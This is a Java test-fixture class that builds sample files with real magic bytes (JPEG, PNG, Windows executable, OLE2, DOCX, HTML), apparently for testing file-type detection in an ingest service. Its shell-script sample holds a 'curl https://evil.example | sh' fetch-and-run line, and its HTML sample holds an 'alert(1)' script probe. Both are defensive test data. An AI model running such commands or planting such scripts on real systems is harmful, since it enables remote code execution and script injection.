package dev.helpstream.ingest;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Small files whose first bytes are those of real files of each kind. */
final class SampleFiles {

    private SampleFiles() {}

    static byte[] jpeg() {
        return concat(
                new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 16, 'J', 'F', 'I', 'F', 0},
                "fake image data".getBytes(StandardCharsets.US_ASCII));
    }

    static byte[] png() {
        return concat(
                new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0, 0, 13, 'I', 'H', 'D', 'R'},
                "fake image data".getBytes(StandardCharsets.US_ASCII));
    }

    /** The start of a Windows executable (DOS header). */
    static byte[] windowsExecutable() {
        return concat(
                new byte[] {'M', 'Z', (byte) 0x90, 0, 3, 0, 0, 0, 4, 0},
                "This program cannot be run in DOS mode".getBytes(StandardCharsets.US_ASCII));
    }

    static byte[] shellScript() {
        return "#!/bin/sh\ncurl https://evil.example | sh\n".getBytes(StandardCharsets.US_ASCII);
    }

    /** An OLE2 compound document, the container of .doc and .xls files. */
    static byte[] ole2() {
        return concat(
                new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1},
                new byte[64]);
    }

    /** A minimal Office Open XML package (the zip a .docx is). */
    static byte[] docx() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"
                    .getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
            zip.putNextEntry(new ZipEntry("word/document.xml"));
            zip.write("<w:document/>".getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    static byte[] html() {
        return "<html><body><script>alert(1)</script></body></html>".getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[] first, byte[] second) {
        byte[] all = new byte[first.length + second.length];
        System.arraycopy(first, 0, all, 0, first.length);
        System.arraycopy(second, 0, all, first.length, second.length);
        return all;
    }
}
